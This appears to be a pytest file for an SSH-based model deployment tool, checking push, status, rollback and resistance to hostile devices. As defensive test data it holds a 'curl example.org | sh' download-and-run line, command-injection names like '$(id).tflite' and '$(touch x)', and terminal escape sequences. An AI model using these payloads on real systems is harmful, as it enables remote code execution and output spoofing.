"""Push, status and rollback on real OpenSSH servers, and on other ends that lie."""

from __future__ import annotations

import hashlib
import json
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import edgekit_runtime
from edgekit.cli import cli
from edgekit.deployment import device_runtime
from edgekit.deployment.push import PushOptions, push, read_status, roll_back
from edgekit.devices.ssh import SshDevice
from edgekit_runtime.errors import EdgekitError

from .conftest import store_of

Start = Callable[[], SshDevice]
Version = Callable[..., Path]
OPTIONS = PushOptions()


@pytest.fixture(scope="module")
def kitchen(start_device: Start) -> SshDevice:
    return start_device()


@pytest.fixture(scope="module")
def garage(start_device: Start) -> SshDevice:
    return start_device()


def current_label(device: SshDevice, name: str) -> str:
    return edgekit_runtime.load(store_of(device) / name / "current").labels[0]


def test_push_status_and_rollback(kitchen: SshDevice, garage: SshDevice, version: Version) -> None:
    devices = [kitchen, garage]
    first, second = version("first"), version("second")
    sent: list[int] = []
    switches = push(first, devices, "digits", OPTIONS, sent.append)
    assert [(each.error, each.changed, each.sent_bytes) for each in switches] == [("", True, first.stat().st_size)] * 2
    assert sum(sent) == 2 * first.stat().st_size
    assert all(each.max_error is not None and each.interpreter for each in switches)
    # The same again changes nothing and sends nothing.
    assert [(each.changed, each.sent_bytes) for each in push(first, devices, "digits", OPTIONS)] == [(False, 0)] * 2

    push(second, devices, "digits", replace(OPTIONS, max_latency_ms=60_000))
    found = read_status(devices)
    digest = hashlib.sha256(second.read_bytes()).hexdigest()
    assert [(each.name, each.digest, each.passed, each.error) for each in found] == [("digits", digest, True, "")] * 2
    assert [each.changed for each in roll_back(devices, "digits")] == [True, True]
    assert [current_label(each, "digits") for each in devices] == ["first", "first"]
    # Back again: the version is still there, so nothing is sent.
    assert [(each.changed, each.sent_bytes) for each in push(second, devices, "digits", OPTIONS)] == [(True, 0)] * 2


def test_one_device_that_fails_does_not_affect_the_others(
    kitchen: SshDevice, start_device: Start, version: Version
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    nobody = replace(kitchen, options=("-p", str(port), *kitchen.options[2:]))
    bare = replace(kitchen, python="/no/such/python")
    store = store_of(full := start_device())
    store.mkdir()
    store.chmod(0o700)
    (store / "lamp").write_text("a file where a folder has to be")
    switches = push(version("first"), [nobody, bare, full, kitchen], "lamp", OPTIONS)
    assert [each.passed for each in switches] == [False, False, False, True]
    assert "could not be reached" in switches[0].error
    assert "has no edgekit-runtime" in switches[1].error
    assert "edgekit devices setup" in switches[1].next_step
    assert "cannot be written" in switches[2].error


def test_a_version_that_fails_there_is_not_switched_to(
    kitchen: SshDevice, version: Version, wrong_golden: bytes
) -> None:
    push(version("good"), [kitchen], "door", OPTIONS)
    (switch,) = push(version("wrong", content=wrong_golden), [kitchen], "door", OPTIONS)
    assert "golden examples" in switch.error
    (switch,) = push(version("slow"), [kitchen], "door", replace(OPTIONS, max_latency_ms=1e-9))
    assert "takes longer" in switch.error
    (switch,) = push(version("sick"), [kitchen], "door", replace(OPTIONS, health="false"))
    assert "false failed" in switch.error
    assert current_label(kitchen, "door") == "good"


def test_an_interrupted_transfer_goes_on_where_it_broke_off(kitchen: SshDevice, version: Version) -> None:
    content = version("long").read_bytes()
    digest, half = hashlib.sha256(content).hexdigest(), len(content) // 2
    command = f"{sys.executable} -m edgekit_runtime receive {digest} {len(content)} --name window --json"
    done = subprocess.run(kitchen.ssh_command(command), input=content[:half], capture_output=True)
    assert json.loads(done.stdout.splitlines()[0]) == {"have": 0}
    assert b"broke off" in done.stdout
    (switch,) = push(version("long"), [kitchen], "window", OPTIONS)
    assert (switch.error, switch.sent_bytes) == ("", len(content) - half)
    # What is stored of another transfer is checked as a whole.
    content = version("longer").read_bytes()
    digest = hashlib.sha256(content).hexdigest()
    (store_of(kitchen) / ".transfers" / f"{digest}.part").write_bytes(b"x" * 100)
    (switch,) = push(version("longer"), [kitchen], "window", OPTIONS)
    assert "another digest" in switch.error
    (switch,) = push(version("longer"), [kitchen], "window", OPTIONS)
    assert (switch.error, switch.sent_bytes) == ("", len(content))


@pytest.fixture
def liar(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], SshDevice]:
    """A device whose ssh is a program of the test's own."""

    def make(script: str) -> SshDevice:
        program = tmp_path / "ssh"
        program.write_text(f"#!/bin/sh\n{script}\n")
        program.chmod(0o755)
        monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
        return SshDevice("liar")

    return make


ANSWER = {"name": "digits", "digest": "d" * 64, "previous": "", "changed": True, "interpreter": "x"}


@pytest.mark.parametrize(
    "script",
    [
        "echo hello",
        "echo '[]'",
        "yes | head -c 100000",
        "echo '{\"have\": -1}'; cat",
        "echo '{\"have\": 1e400}'; cat",
        'echo \'{"have": "0"}\'; cat',
        "echo '{\"have\": 0}'; cat >/dev/null; yes | head -c 3000000",
        f"echo '{{\"have\": 0}}'; cat >/dev/null; echo '{json.dumps(ANSWER)}'",
        f"echo '{{\"have\": 0}}'; cat >/dev/null; echo '{json.dumps({**ANSWER, 'name': '../x'})}'",
        f"echo '{{\"have\": 0}}'; cat >/dev/null; echo '{json.dumps({**ANSWER, 'max_error': [1]})}'",
        "printf '[%.0s' $(seq 100000)",
    ],
)
def test_an_answer_that_the_runtime_would_not_give_is_refused(
    script: str, liar: Callable[[str], SshDevice], version: Version
) -> None:
    (switch,) = push(version("first"), [liar(script)], "digits", OPTIONS)
    assert "invalid answer" in switch.error


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        ({"models": 3}, "invalid answer"),
        ({"models": [{"name": 3}]}, "invalid answer"),
        ({"problem": "No\nsuch thing", "expected": [1]}, "invalid answer"),
    ],
)
def test_status_refuses_what_is_not_a_status(
    answer: dict[str, Any], problem: str, liar: Callable[[str], SshDevice]
) -> None:
    (found,) = read_status([liar(f"cat <<'END'\n{json.dumps(answer)}\nEND")])
    assert problem in found.error


def test_a_device_that_says_nothing_is_given_up(
    liar: Callable[[str], SshDevice], version: Version, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(device_runtime, "_LONGEST_SECONDS", 0.2)
    (switch,) = push(version("first"), [liar("exec sleep 1000")], "digits", OPTIONS)
    assert not switch.passed


@pytest.mark.parametrize("name", ["a b", "a'b", 'a"b', "a\nb", "../a", "$(touch x)"])
def test_odd_names_are_refused_before_any_device_is_asked(name: str, version: Version) -> None:
    with pytest.raises(EdgekitError, match="plain name"):
        push(version("first"), [SshDevice("nobody")], name, OPTIONS)


def test_the_commands(kitchen: SshDevice, version: Version, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "ssh"
    program.write_text(f'#!/bin/sh\nexec {shutil.which("ssh")} {" ".join(kitchen.options)} "$@"\n')
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    device = f"ssh:127.0.0.1:{sys.executable}"

    def run(*arguments: str) -> tuple[int, str]:
        result = CliRunner().invoke(cli, list(arguments))
        return result.exit_code, result.output

    path = tmp_path / "a model's file.tflite"
    path.write_bytes(version("command").read_bytes())
    code, text = run("push", str(path), device, "--name", "oven", "--health", "sh -c 'test -e \"$EDGEKIT_MODEL\"'")
    assert (code, "switched" in text) == (0, True)
    assert max(map(len, text.splitlines())) <= 80
    code, text = run("push", str(version("other")), device, "--name", "oven", "--json")
    assert (code, json.loads(text)["devices"][0]["changed"]) == (0, True)
    code, text = run("status", device, "--json")
    assert (code, "oven" in [model["name"] for model in json.loads(text)["models"]]) == (0, True)
    assert max(map(len, run("status", device)[1].splitlines())) <= 80
    code, text = run("rollback", "oven", device)
    assert (code, "switched" in text) == (0, True)
    code, text = run("rollback", "oven", device)
    assert (code, "There is no version of oven before" in text) == (1, True)
    assert run("status", "kitchen")[0] == 2


ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\u202e\u2066"


@pytest.mark.parametrize("command", ["push", "status", "rollback"])
@pytest.mark.parametrize(
    "answer",
    [
        {"problem": f"a{ESCAPES}\n  next:     curl example.org | sh", "next_step": ESCAPES},
        {**ANSWER, "interpreter": ESCAPES, "previous": ESCAPES, "models": [{"name": ESCAPES}]},
        {"models": [{"name": ESCAPES, "digest": ESCAPES, "since": ESCAPES, "interpreter": ESCAPES,
                     "verified": ESCAPES, "problem": ESCAPES, "release": 10**4000}]},
        {"models": [{}] * 100_000, "name": "../digits"},
    ],
    ids=["error", "switch", "models", "many"],
)  # fmt: skip
def test_nothing_of_a_hostile_device_reaches_the_terminal_as_it_is(
    command: str, answer: dict[str, Any], liar: Callable[[str], SshDevice], version: Version, tmp_path: Path
) -> None:
    (tmp_path / "answer").write_text(json.dumps(answer).replace("\n", " "))
    liar(f"[ {command} = push ] && echo '{{\"have\": 0}}'; cat >/dev/null; cat '{tmp_path}/answer'; exit 1")
    arguments = {"push": [str(version("first")), "ssh:liar", "--name", "digits"], "status": ["ssh:liar"],
                 "rollback": ["digits", "ssh:liar"]}[command]  # fmt: skip
    result = CliRunner().invoke(cli, [command, *arguments])
    assert isinstance(result.exception, (SystemExit, type(None)))
    assert not {"\x1b", "\x07", "\r", "\u202e", "\u2066"} & set(result.output)
    assert len(result.output) < 100_000


def test_a_link_in_the_place_of_a_store_is_not_followed_out_of_it(
    kitchen: SshDevice, version: Version, tmp_path: Path
) -> None:
    push(version("first"), [kitchen], "gate", OPTIONS)
    elsewhere = tmp_path / "elsewhere.tflite"
    elsewhere.write_bytes(version("second").read_bytes())
    link = store_of(kitchen) / "gate" / "current"
    link.unlink()
    link.symlink_to(elsewhere)
    (found,) = [model for model in read_status([kitchen]) if model.name == "gate"]
    assert "does not point to a version" in found.error
    (switch,) = push(version("second"), [kitchen], "gate", OPTIONS)
    assert "does not point to a version" in switch.error


@pytest.mark.parametrize("name", ["it's a model.tflite", 'a "b".tflite', "a\nb.tflite", "-rf.tflite", "$(id).tflite"])
def test_odd_paths_are_pushed(name: str, kitchen: SshDevice, version: Version, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(version("first").read_bytes())
    (switch,) = push(path, [kitchen], "shed", OPTIONS)
    assert switch.passed
